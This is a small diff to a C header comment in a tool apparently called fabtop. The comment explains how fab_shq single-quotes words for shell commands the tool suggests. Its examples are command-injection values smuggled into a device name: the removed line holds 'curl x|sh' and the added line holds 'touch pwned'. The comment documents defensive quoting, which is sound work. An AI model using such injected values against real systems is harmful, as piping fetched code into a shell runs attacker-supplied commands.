@@ -18,7 +18,7 @@
  * changes nothing. The JSON output keeps the name itself (print.c).
  *
  * fab_shq quotes one word for a shell, for the commands fabtop suggests
- * ("next: ibstat 'mlx5;curl x|sh;#' 1"): a word of safe characters stays
+ * ("next: ibstat 'mlx5;touch pwned;#' 1"): a word of safe characters stays
  * as it is, any other is single-quoted with ' written '\''.
  */
 #ifndef FABTOP_SANITIZE_H
